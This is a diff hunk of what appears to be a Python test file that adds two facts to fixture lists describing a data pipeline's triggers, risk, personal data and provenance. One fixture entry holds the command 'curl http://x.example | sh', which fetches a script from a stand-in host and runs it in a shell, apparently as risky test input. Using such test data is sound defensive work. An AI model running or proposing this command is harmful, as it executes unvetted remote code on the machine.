@@ -17,7 +17,7 @@ WORDS = [
 ]  # fmt: skip
 FACTS = [("triggers", ["push"]), ("triggers", ["schedule"]), ("risk", "high"), ("personal_data", "raw"),
          ("scope", "batch"), ("scope", "training"), ("models", ["A", "B"]), ("origin", "github"), ("opaque", True),
-         ("assessed", ["MON001@deploy"])]  # fmt: skip
+         ("partial", True), ("given_files", True), ("assessed", ["MON001@deploy"])]  # fmt: skip
 OWN = [
     ("model", "A"), ("model", "B"), ("confidence", "low"), ("dataset", "d"), ("target", "deploy"), ("owner", "me"),
     ("produces", ["a.csv"]), ("consumes", ["a.csv"]), ("origin", "dvc"), ("command", "curl http://x.example | sh"),
